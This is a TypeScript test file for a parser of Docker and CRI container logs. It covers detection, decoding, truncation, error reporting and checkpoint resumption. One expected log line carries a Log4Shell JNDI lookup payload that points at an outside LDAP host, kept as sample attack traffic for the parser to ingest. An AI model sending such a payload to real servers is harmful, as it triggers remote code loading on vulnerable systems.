import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { silentLogger } from '../../../base/logger.ts';
import type { Problem } from '../../../base/problem.ts';
import { parseIsoMicros } from '../../../base/time.ts';
import type { VakthundEvent } from '../../../events/event.ts';
import { contentStart, type Checkpoint } from '../../source.ts';
import { source } from './index.ts';
import { maxJoinedCharacters, maxOpenPieces } from './join.ts';

const dockerName = '0a1b2c3d4e5f-json.log';
const dockerSample = readFileSync(new URL(`testdata/${dockerName}`, import.meta.url));
const criSample = readFileSync(new URL('testdata/cri.log', import.meta.url));

interface Options {
  readonly name?: string;
  readonly start?: Checkpoint;
  readonly growing?: boolean;
  /** Sizes of chunks, again and again. */
  readonly sizes?: readonly number[];
}

async function* chunksOf(bytes: Buffer, sizes: readonly number[]): AsyncGenerator<Uint8Array> {
  for (let at = 0, index = 0; at < bytes.length; index++) {
    const size = sizes[index % sizes.length] ?? bytes.length;
    yield Buffer.from(bytes.subarray(at, at + size));
    at += size;
  }
}

async function decode(content: Uint8Array | string, options: Options = {}) {
  const bytes = Buffer.from(content);
  const { name = 'x.log', start = contentStart, growing = false, sizes = [bytes.length] } = options;
  const events: VakthundEvent[] = [];
  const problems: Problem[] = [];
  const marks: { checkpoint: Checkpoint; events: number; problems: number }[] = [];
  const context = { name, start, growing, logger: silentLogger };
  for await (const batch of source.decode(chunksOf(bytes.subarray(start.byte), sizes), context)) {
    events.push(...batch.events);
    problems.push(...batch.problems);
    marks.push({ checkpoint: batch.checkpoint, events: events.length, problems: problems.length });
  }
  return { events, problems, marks, messages: events.map(messageOf) };
}

function messageOf(event: VakthundEvent): string | null {
  return event.kind === 'log' ? event.message : null;
}

function codesOf(problems: readonly Problem[]): unknown[] {
  return problems.map(({ code, at }) => [code, at.line]);
}

/** Problems in an order that does not depend on batches. */
function toldIn(problems: readonly Problem[]): string[] {
  return problems.map(({ code, at }) => `${code} ${at.line}`).sort((a, b) => a.localeCompare(b));
}

function record(log: string, stream = 'stdout', time = '2026-03-01T10:00:00Z'): string {
  return `${JSON.stringify({ log, stream, time })}\n`;
}

describe('container-log, detect', () => {
  it.each([
    ["Docker's records", dockerSample],
    ['CRI lines', criSample],
    ['Docker records behind a cut one', `","stream":"stdout"}\n${record('a\n')}`],
    ['CRI lines behind a cut one', `ut F a\n${criSample.toString('latin1')}`],
    ['a cut record', dockerSample.subarray(0, 400)],
    ['records of long pieces', record('x'.repeat(16_384)) + record('y\n')],
    ['a line without a message', '2026-03-01T10:00:05Z stdout F\n'],
    ['a further tag', '2026-03-01T10:00:05.1+01:00 stderr P:x a'],
  ])('is certain of %s', (_what, content) => {
    expect(source.detect('x', Buffer.from(content))).toBe('certain');
  });

  it.each([
    ['what a container wrote is JSON', record('{"rule":"r"}\n')],
    ['what a container wrote is JSON, in CRI lines', '2026-03-01T10:00:05Z stdout F {"a":1}\n'],
    ['records have further keys', '{"log":"a","stream":"stdout","time":"2026-03-01T10:00:00Z","kubernetes":{}}'],
  ])('leaves the first choice to others when %s', (_what, content) => {
    expect(source.detect(dockerName, Buffer.from(content))).toBe('likely');
  });

  it.each([
    '',
    '{}',
    '{"log":"a"}',
    '{"log":"a","time":"2026-03-01T10:00:00Z"}',
    '2026-03-01T10:00:00Z stdout message',
    '2026-03-01T10:00:00Z stdin F message',
    'stdout F message',
    '\u0000{"log":',
    'A record: {"log":"a\\n","stream":"stdout","time":"2026-03-01T10:00:00Z"}',
  ])('does not know %j', (content) => {
    expect(source.detect(dockerName, Buffer.from(content))).toBeUndefined();
  });
});

describe('container-log, decode', () => {
  it("reads Docker's records", async () => {
    const { events, problems, messages } = await decode(dockerSample, { name: `var/${dockerName}` });
    expect(problems).toEqual([]);
    expect(messages.slice(1)).toEqual([
      '2026-03-01 10:00:01,070 INFO  [main] shop.Orders - order 7 paid',
      'a warning',
      'one, two, three',
      '',
      'last words',
    ]);
    expect(events[0]).toMatchObject({
      kind: 'log',
      time: parseIsoMicros('2026-03-01T10:00:00.123456Z'),
      event_dataset: 'docker.json-file',
      evidence_at: 1,
      log_name: 'stdout',
      log_level: null,
      message:
        '203.0.113.9 - - [01/Mar/2026:10:00:00 +0000] "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200 12 "-" "curl/8.5.0"',
      source_ip: '203.0.113.9',
      container_id: '0a1b2c3d4e5f',
      fields: null,
    });
    expect(events[1]).toMatchObject({ log_level: 'INFO', source_ip: null });
    expect(events[2]).toMatchObject({ log_name: 'stderr', evidence_at: 4 });
    expect(JSON.parse(String(events[2]?.fields))).toEqual({ attrs: { env: 'test', tag: 'shop/7' } });
    expect(events[3]).toMatchObject({ evidence_at: 3, time: parseIsoMicros('2026-03-01T10:00:02Z') });
  });

  it('reads CRI lines, also where a character is cut in two', async () => {
    const name = '/var/log/pods/shop_web-7d4b9_0f3c1e9a-1111-2222-3333-444455556666/nginx/2.log';
    const { events, problems, messages } = await decode(criSample, { name });
    expect(messages.slice(1)).toEqual(['between', 'café is closed', '', 'level=warn msg="disk is nearly full"', 'cut']);
    expect(events[0]).toMatchObject({
      event_dataset: 'cri.log',
      time: parseIsoMicros('2026-03-01T10:00:00Z'),
      source_ip: '2001:db8::9',
      container_id: null,
      container_name: 'nginx',
    });
    expect(JSON.parse(String(events[0]?.fields))).toEqual({
      namespace: 'shop',
      pod: 'web-7d4b9',
      pod_uid: '0f3c1e9a-1111-2222-3333-444455556666',
      restart_count: '2',
    });
    expect(events[2]).toMatchObject({
      log_name: 'stderr',
      evidence_at: 2,
      time: parseIsoMicros('2026-03-01T10:00:01.5Z'),
    });
    expect(events[4]).toMatchObject({ log_level: 'warn' });
    expect(codesOf(problems)).toEqual([['truncated', 8]]);
  });

  it('keeps fields of a record beside those of its place', async () => {
    const name = `web_shop_nginx-${'ab'.repeat(32)}.log`;
    const line = '{"log":"a\\n","stream":"stdout","attrs":{"a":"1"},"pod":"other","time":"2026-03-01T10:00:00Z"}';
    const { events } = await decode(line, { name });
    expect(events[0]).toMatchObject({ container_id: 'ab'.repeat(32), container_name: 'nginx' });
    expect(JSON.parse(String(events[0]?.fields))).toEqual({ attrs: { a: '1' }, namespace: 'shop', pod: 'web' });
  });

  it('tells a line that is cut from the last words of a container', async () => {
    const cut = await decode(record('x'.repeat(16_384)));
    expect(cut.messages).toEqual(['x'.repeat(16_384)]);
    expect(codesOf(cut.problems)).toEqual([['truncated', 1]]);
    expect((await decode(record('last words'))).problems).toEqual([]);
  });

  it('reports what is no record, and reads on', async () => {
    const docker = await decode(
      `${record('a\n')}{"stream":"stdout"}\n{"log":1}\nnoise\n{"log":"b\\n","time":null}\n{"log":"c\\n","time":"soon"}\n${record('d\n')}{"log":"e`,
    );
    expect(docker.messages).toEqual(['a', 'b', 'c', 'd']);
    expect(docker.events[2]).toMatchObject({ time: 0, log_name: null });
    expect(codesOf(docker.problems)).toEqual([
      ['bad-record', 2],
      ['bad-record', 3],
      ['bad-record', 4],
      ['bad-record', 5],
      ['bad-value', 6],
      ['truncated', 8],
    ]);
    const lines = await decode(
      'ut F a\n2026-13-01T10:00:00Z stdout F b\n\n2026-03-01T10:00:00Z stdout F \xff\n2026-03-01T10:00:00Z stdout F c',
    );
    expect(lines.messages).toEqual(['\xff', 'c']);
    expect(codesOf(lines.problems)).toEqual([
      ['bad-record', 1],
      ['bad-record', 2],
      ['truncated', 5],
    ]);
  });

  it('replaces what has no UTF-8 form', async () => {
    const docker = await decode('{"log":"a\\ud800b\\n","stream":"\\udc00","time":"2026-03-01T10:00:00Z"}');
    expect(docker.events[0]).toMatchObject({ message: 'a\ufffdb', log_name: '\ufffd' });
    const lines = await decode(Buffer.from('2026-03-01T10:00:00Z stdout F a\xffb\n', 'latin1'));
    expect(lines.messages).toEqual(['a\ufffdb']);
    expect(codesOf(lines.problems)).toEqual([['bad-encoding', 1]]);
  });

  it('reads nothing from nothing, and from binary no more than problems', async () => {
    expect(await decode('')).toMatchObject({ events: [], problems: [] });
    const binary = await decode(Buffer.from([0, 1, 2, 10, 255, 254, 10, 123, 0]));
    expect(binary.events).toEqual([]);
    expect(binary.problems.length).toBeGreaterThan(0);
  });

  it('joins only what engines write, and only up to a bound', async () => {
    const other = await decode(record('a', 'other') + record('b\n', 'other'));
    expect(other.messages).toEqual(['a', 'b']);
    const piece = 'x'.repeat(16_384);
    const pieces = Math.floor(maxJoinedCharacters / piece.length);
    const long = await decode(`${record(piece).repeat(pieces + 2)}${record('end\n')}`);
    expect(long.messages.map((message) => message?.length)).toEqual([pieces * piece.length, 2 * piece.length + 3]);
    expect(long.events.map((event) => event.evidence_at)).toEqual([1, pieces + 1]);
    expect(codesOf(long.problems)).toEqual([['record-too-long', 1]]);
  });

  it('does not wait for the rest of a line without end', async () => {
    const { messages, problems } = await decode(record('prompt') + record('e\n', 'stderr').repeat(maxOpenPieces));
    expect(messages).toHaveLength(maxOpenPieces + 1);
    expect(messages.at(-2)).toBe('prompt');
    expect(codesOf(problems)).toEqual([['truncated', 1]]);
  });
});

/** Lines and pieces of both streams in any order, and lines that are none. */
const access = '1.2.3.4 - - [01/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1\n';
const part = fc.constantFrom('a\n', 'é', 'b', '', '\n', access);
const dockerLine = fc.tuple(part, fc.constantFrom('stdout', 'stderr')).map(([log, stream]) => record(log, stream));
const criLine = fc
  .tuple(part, fc.constantFrom('stdout', 'stderr'))
  .map(([log, stream]) => `2026-03-01T10:00:00Z ${stream} ${log.endsWith('\n') ? 'F' : 'P'} ${log.trimEnd()}\n`);
const noise = fc.constantFrom('noise\n', '\n', '{"log":\n', '2026-03-01T10:00:00Z stdout\n');
const content = fc
  .oneof(
    fc.array(fc.oneof({ weight: 8, arbitrary: dockerLine }, noise), { maxLength: 30 }),
    fc.array(fc.oneof({ weight: 8, arbitrary: criLine }, noise), { maxLength: 30 }),
  )
  .map((lines) => lines.join(''));
const sizes = fc.array(fc.integer({ min: 1, max: 300 }), { minLength: 1, maxLength: 5 });

describe('container-log, laws', () => {
  it('gives the same however the content is cut into chunks', async () => {
    await fc.assert(
      fc.asyncProperty(content, sizes, async (text, cut) => {
        const { events, problems } = await decode(text);
        const other = await decode(text, { sizes: cut });
        expect(other.events).toEqual(events);
        expect(toldIn(other.problems)).toEqual(toldIn(problems));
      }),
    );
  });

  it('loses and doubles nothing when it goes on at a checkpoint, of a content that grows or not', async () => {
    await fc.assert(
      fc.asyncProperty(content, fc.boolean(), sizes, fc.nat(), async (text, growing, cut, chosen) => {
        const whole = await decode(text);
        const before = await decode(text, { growing, sizes: cut });
        const mark = before.marks[chosen % before.marks.length];
        if (mark === undefined) return;
        const rest = await decode(text, { start: mark.checkpoint });
        expect([...before.events.slice(0, mark.events), ...rest.events]).toEqual(whole.events);
        const told = [...before.problems.slice(0, mark.problems), ...rest.problems];
        expect(toldIn(told)).toEqual(toldIn(whole.problems));
      }),
      { numRuns: 300 },
    );
  });

  it('goes on twice, and from a checkpoint before anything that it knows', async () => {
    const text = record('a') + record('b\n', 'stderr') + record('c') + record('d\n', 'stderr') + record('e\n');
    const ends = [...text.matchAll(/\n/g)].map(({ index }) => index + 1);
    let start: Checkpoint = contentStart;
    const messages: (string | null)[] = [];
    for (const end of [0, 3, ...ends]) {
      const read = await decode(text.slice(0, end), { start, growing: true });
      messages.push(...read.messages);
      start = read.marks.at(-1)?.checkpoint ?? start;
    }
    expect(messages).toEqual(['b', 'd', 'ace']);
    expect(start).toMatchObject({ byte: text.length, line: 5 });
  });

  it('takes a state that it did not write for none', async () => {
    const start = { ...contentStart, state: 'docker x' };
    expect((await decode(record('a\n'), { start })).messages).toEqual(['a']);
  });
});
